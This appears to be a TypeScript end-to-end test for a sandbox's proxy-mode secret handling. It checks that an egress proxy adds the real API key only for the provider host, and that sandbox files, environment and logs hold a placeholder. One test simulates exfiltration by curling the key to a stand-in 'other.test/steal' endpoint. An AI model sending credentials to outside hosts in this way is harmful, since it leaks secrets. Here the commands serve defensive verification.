/**
 * Proxy-mode secrets end to end on the real engine: a sandbox (real spec builder, paddock-init,
 * internal network) → the egress proxy container → a fake provider container (HTTPS with a CA
 * made here, reached through the proxy's resolution override; no traffic leaves the machine).
 * The real key must arrive in the provider's header at the provider's host only; the sandbox's
 * environment, files and inspect output, and paddockd's log, hold the placeholder at most.
 *
 * Needs paddockd's egress module (EgressService with setCredentials). Until it is present the
 * suite is skipped, with the reason printed — checked at runtime, not hard-coded.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testSandboxImage } from '../../test/base-image.js';
import { Label } from '../core/labels.js';
import type { CreateSandboxRequest, SandboxInfo } from '../core/protocol.js';
import { buildContainerCreate, homeVolumeName, networkNameFor, type SandboxSpec } from '../core/spec.js';
import { allocateSubnet, type SubnetPlan } from '../core/subnets.js';
import { DockerEngine } from '../engine/docker.js';
import type { CreateContext, SandboxHooks } from '../sandboxes/hooks.js';
import { injectorFor, type CredentialTarget } from './injector.js';
import { maskingLogHooks, SecretMasker } from './mask.js';
import { SecretsService } from './service.js';

type EgressLike = SandboxHooks & CredentialTarget & {
  start(): Promise<void>;
  dispose(): Promise<void>;
  setResolveOverride(map: Record<string, string[]>): Promise<void>;
};
type EgressCtor = new (opts: Record<string, unknown>) => EgressLike;

async function findEgress(): Promise<{ ctor: EgressCtor | null; reason: string }> {
  try {
    const mod = (await import('../egress/service.js')) as Record<string, unknown>;
    const ctor = mod.EgressService as EgressCtor | undefined;
    const proto = ctor?.prototype as Partial<EgressLike> | undefined;
    if (!ctor || typeof proto?.setCredentials !== 'function' || typeof proto.setResolveOverride !== 'function' || typeof proto.start !== 'function') {
      return { ctor: null, reason: 'backend/src/egress/service.ts has no EgressService with start/setCredentials/setResolveOverride yet' };
    }
    return { ctor, reason: '' };
  } catch (err) {
    return { ctor: null, reason: `paddockd's egress module is not present (${(err as Error).message.split('\n')[0]})` };
  }
}

const egress = await findEgress();
if (!egress.ctor) console.warn(`skipping proxy-mode end-to-end: ${egress.reason}`);

const RUN = `sp${randomBytes(3).toString('hex')}`;
const TEST_LABELS = { [Label.Test]: RUN };
let SANDBOX_IMAGE = '';
const BASE_IMAGE = process.env.PADDOCK_BASE_IMAGE ?? 'paddock/bootstrap:trixie';
const AGENT_UID = 4321;
const KEY = `sk-ant-api03-E2E-${randomBytes(16).toString('hex')}`;
const ROTATED = `sk-ant-api03-ROT-${randomBytes(16).toString('hex')}`;
const READY_TIMEOUT_MS = 30_000; // paddock-init is up in well under a second
const UPSTREAM_READY_TRIES = 50; // × 200 ms: node starts its listeners in well under 10 s

const UPSTREAM_SCRIPT = `
const https = require('https'), http = require('http');
const h = (req, res) => { res.setHeader('content-type', 'application/json');
  res.end(JSON.stringify({ host: req.headers.host, url: req.url, headers: req.headers })); };
https.createServer({ key: process.env.KEY, cert: process.env.CERT }, h).listen(443);
http.createServer(h).listen(80);
`;

const engine = new DockerEngine();
const stateDir = mkdtempSync(join(tmpdir(), 'paddock-secrets-e2e-'));
const workspace = mkdtempSync(join(tmpdir(), 'paddock-secrets-e2e-ws-'));
const logLines: string[] = [];
let egressSvc: EgressLike;
let secrets: SecretsService;
let upstreamIp = '';
let ca = '';
const proxyName = `paddock-egress-${RUN}`;

function makeCerts(dir: string): { ca: string; cert: string; key: string } {
  const o = (args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: 'pipe' });
  o(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=Paddock secrets test CA']);
  o(['req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'srv.key', '-out', 'srv.csr', '-subj', '/CN=api.anthropic.com']);
  execFileSync('sh', ['-c', `printf '%s\\n' 'subjectAltName=DNS:api.anthropic.com,DNS:other.test' > ext.cnf`], { cwd: dir });
  o(['x509', '-req', '-in', 'srv.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'srv.pem', '-days', '2', '-extfile', 'ext.cnf']);
  return { ca: readFileSync(join(dir, 'ca.pem'), 'utf8'), cert: readFileSync(join(dir, 'srv.pem'), 'utf8'), key: readFileSync(join(dir, 'srv.key'), 'utf8') };
}

async function sh(id: string, script: string, user = `${AGENT_UID}:${AGENT_UID}`): Promise<{ code: number; out: string; err: string }> {
  const r = await engine.containers.exec(id, { cmd: ['sh', '-c', script], user });
  return { code: r.exitCode, out: r.stdout.toString('utf8'), err: r.stderr.toString('utf8') };
}

interface Made {
  spec: SandboxSpec;
  id: string;
  plan: SubnetPlan;
}

/** A sandbox the way the sandbox service makes one: its /28, hooks egress-then-secrets, the real create body. */
async function makeSandbox(short: string, secretsReq: unknown[], allowHosts: string[]): Promise<Made> {
  const name = `${RUN}-${short}`;
  const plan = allocateSubnet((await engine.networks.list({})).flatMap((n) => n.subnets))!;
  const networkName = networkNameFor(name);
  await engine.networks.create({ name: networkName, internal: true, labels: { ...TEST_LABELS, [Label.Managed]: 'true', [Label.Kind]: 'network', [Label.Sandbox]: name }, subnet: plan.subnet, gateway: plan.gateway });
  const spec: SandboxSpec = {
    name, agent: 'claude', workspace, image: SANDBOX_IMAGE, isolation: 'container', runtime: 'runc', network: 'allowlist', networkName,
    allowHosts, mounts: [], cpus: 1, memoryBytes: 512 * 1024 ** 2, pids: 256, autonomy: true, uid: AGENT_UID, gid: AGENT_UID, agentArgs: [],
    agentArgv: ['sleep', 'infinity'], env: {}, homeVolume: homeVolumeName(name), createdAt: new Date().toISOString(), extraLabels: TEST_LABELS,
    dns: null, tmpfs: {}, volumes: [],
  };
  const ctx: CreateContext = { actor: 'cli', request: { agent: 'claude', workspace, secrets: secretsReq } as unknown as CreateSandboxRequest, plan };
  for (const h of [egressSvc, secrets] as SandboxHooks[]) await h.beforeCreate?.(spec, ctx);
  await engine.volumes.create(spec.homeVolume, TEST_LABELS);
  const body = buildContainerCreate(spec);
  (body.NetworkingConfig as { EndpointsConfig: Record<string, Record<string, unknown>> }).EndpointsConfig[networkName]!.IPAMConfig = { IPv4Address: plan.sandbox };
  const id = await engine.containers.create(body);
  for (const h of [egressSvc, secrets] as SandboxHooks[]) await h.afterCreate?.(spec, id, ctx);
  await engine.containers.start(id);
  const deadline = Date.now() + READY_TIMEOUT_MS;
  while ((await sh(id, `getent passwd ${AGENT_UID} >/dev/null`, '0:0')).code !== 0) {
    if (Date.now() > deadline) throw new Error('sandbox init did not finish');
    await new Promise((r) => setTimeout(r, 200));
  }
  await engine.containers.exec(id, { cmd: ['sh', '-c', 'printf "%s" "$CA" > /tmp/ca.pem && chmod 644 /tmp/ca.pem'], user: '0:0', env: [`CA=${ca}`] });
  const info = { name, agent: spec.agent, uid: AGENT_UID, gid: AGENT_UID } as SandboxInfo;
  for (const h of [egressSvc, secrets] as SandboxHooks[]) await h.afterStart?.(info, id);
  return { spec, id, plan };
}

/** What the agent does: its own env, no flags to bypass anything. Prints the body. */
async function agentCurl(id: string, args: string): Promise<{ status: number; json: { host?: string; url?: string; headers?: Record<string, string> } | null; raw: string }> {
  const r = await sh(id, `curl -sS -m 10 --cacert /tmp/ca.pem -w '\\n%{http_code}' ${args}`);
  const lines = r.out.split('\n');
  const status = Number(lines.pop());
  const raw = lines.join('\n');
  let json = null;
  try {
    json = JSON.parse(raw);
  } catch {
    json = null;
  }
  return { status, json, raw: raw + r.err };
}

let A: Made; // has ANTHROPIC_API_KEY in proxy mode
let B: Made; // has no secrets

describe.skipIf(!egress.ctor)('proxy-mode secrets through the egress proxy container', () => {
  beforeAll(async () => {
    SANDBOX_IMAGE = await testSandboxImage();
    const certDir = mkdtempSync(join(tmpdir(), 'paddock-secrets-ca-'));
    const certs = makeCerts(certDir);
    rmSync(certDir, { recursive: true, force: true });
    ca = certs.ca;
    egressSvc = new egress.ctor!({
      engine,
      log: { info: () => {}, warn: () => {}, error: (o: unknown) => console.error(o) },
      stateDir,
      settingsDir: join(stateDir, 'sandboxes'),
      extraLabels: TEST_LABELS,
      baseImage: BASE_IMAGE,
      containerName: proxyName,
      outboundNetwork: `paddock-egress-out-${RUN}`,
      test: { extraCaPem: certs.ca },
    });
    await egressSvc.start();
    const masker = new SecretMasker();
    const sink = new Writable({ write(chunk, _e, cb) { logLines.push(String(chunk)); cb(); } });
    secrets = new SecretsService({
      engine,
      paths: { stateDir, settingsDir: join(stateDir, 'sandboxes') },
      injector: injectorFor(egressSvc),
      masker,
      log: pino({ level: 'debug', hooks: maskingLogHooks(masker) }, sink),
      extraLabels: TEST_LABELS,
    });
    await secrets.set('ANTHROPIC_API_KEY', 'global', KEY, 'cli');

    const upstreamName = `${RUN}-provider`;
    await engine.containers.create({
      name: upstreamName, Image: SANDBOX_IMAGE, Entrypoint: ['node', '-e', UPSTREAM_SCRIPT], Cmd: [],
      Env: [`KEY=${certs.key}`, `CERT=${certs.cert}`],
      Labels: { ...TEST_LABELS, [Label.Managed]: 'true' },
      HostConfig: { NetworkMode: `paddock-egress-out-${RUN}` },
    });
    await engine.containers.start(upstreamName);
    upstreamIp = (await engine.containers.inspect(upstreamName))!.networks[`paddock-egress-out-${RUN}`]!.ipAddress;
    await egressSvc.setResolveOverride({ 'api.anthropic.com': [upstreamIp], 'other.test': [upstreamIp] });

    // The address gate refuses private addresses unless a rule names them: the test upstream is one.
    const hosts = ['api.anthropic.com', 'other.test', upstreamIp];
    A = await makeSandbox('a', [{ name: 'ANTHROPIC_API_KEY', mode: 'proxy' }], hosts);
    B = await makeSandbox('b', [], hosts);
    for (let i = 0; i < UPSTREAM_READY_TRIES && (await agentCurl(A.id, 'http://other.test/')).status !== 200; i++) await new Promise((r) => setTimeout(r, 200));
  }, 900_000);

  afterAll(async () => {
    await egressSvc?.dispose();
    for (const c of await engine.containers.list(TEST_LABELS)) await engine.containers.remove(c.id, { force: true }).catch(() => {});
    await engine.containers.remove(proxyName, { force: true }).catch(() => {});
    for (const n of await engine.networks.list(TEST_LABELS)) await engine.networks.remove(n.id).catch(() => {});
    for (const v of await engine.volumes.list(TEST_LABELS)) await engine.volumes.remove(v.name).catch(() => {});
    rmSync(stateDir, { recursive: true, force: true });
    rmSync(workspace, { recursive: true, force: true });
  });

  it('the agent, using only its env, reaches the provider with the real key in x-api-key', async () => {
    const r = await agentCurl(A.id, `-X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY"`);
    expect(r.status, r.raw).toBe(200);
    expect(r.json).toMatchObject({ host: 'api.anthropic.com', url: '/v1/messages', headers: { 'x-api-key': KEY } });
  });

  it('a request to a non-provider host carries only the placeholder (HTTPS through CONNECT and plain HTTP)', async () => {
    const placeholder = A.spec.env.ANTHROPIC_API_KEY!;
    for (const url of ['https://other.test/steal', 'http://other.test/steal']) {
      const r = await agentCurl(A.id, `"${url}" -H "x-api-key: $ANTHROPIC_API_KEY" -H "authorization: Bearer $ANTHROPIC_API_KEY"`);
      expect(r.status, r.raw).toBe(200);
      expect(r.json?.headers?.['x-api-key']).toBe(placeholder);
      expect(r.raw).not.toContain(KEY);
    }
  });

  it('another sandbox gets no credential from its proxy route', async () => {
    // B has no proxy-mode secret, so no NO_PROXY entry for its proxy: go to the credential port directly.
    const r = await agentCurl(B.id, `--noproxy '*' "http://${B.plan.proxy}:3129/anthropic/v1/messages" -H "x-api-key: whatever"`);
    expect(r.status).toBe(404);
    expect(r.raw).not.toContain(KEY);
  });

  it("the key is not in the sandbox's environment, files or inspect output", async () => {
    const env = await sh(A.id, 'env; cat /proc/1/environ | tr "\\0" "\\n"', '0:0');
    expect(env.out).toContain('ANTHROPIC_API_KEY=paddock-placeholder-');
    expect(env.out).not.toContain(KEY);
    const files = await engine.containers.exec(A.id, {
      cmd: ['sh', '-c', 'grep -rqsF -- "$1" /home /run /tmp /etc /root "$2" && echo FOUND || echo none', 'x', KEY, workspace], user: '0:0',
    });
    expect(files.stdout.toString().trim()).toBe('none');
    expect(JSON.stringify(await engine.containers.inspect(A.id))).not.toContain(KEY);
  });

  it('rotation reaches the proxy at once', async () => {
    const res = await secrets.set('ANTHROPIC_API_KEY', 'global', ROTATED, 'cli');
    expect(res.rotated).toEqual([A.spec.name]);
    const r = await agentCurl(A.id, `-X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY"`);
    expect(r.json?.headers?.['x-api-key']).toBe(ROTATED);
  });

  it("paddockd's log holds no key", () => {
    (secrets as unknown as { log: pino.Logger }).log.debug({ probe: ROTATED }, `probe ${KEY}`);
    const all = logLines.join('');
    expect(all).not.toContain(KEY);
    expect(all).not.toContain(ROTATED);
  });

  it('removing the secret revokes it at once', async () => {
    await secrets.remove('ANTHROPIC_API_KEY', 'global', 'cli');
    const r = await agentCurl(A.id, `-X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY"`);
    expect(r.status).toBe(404);
    expect(r.raw).not.toContain(ROTATED);
  });
});
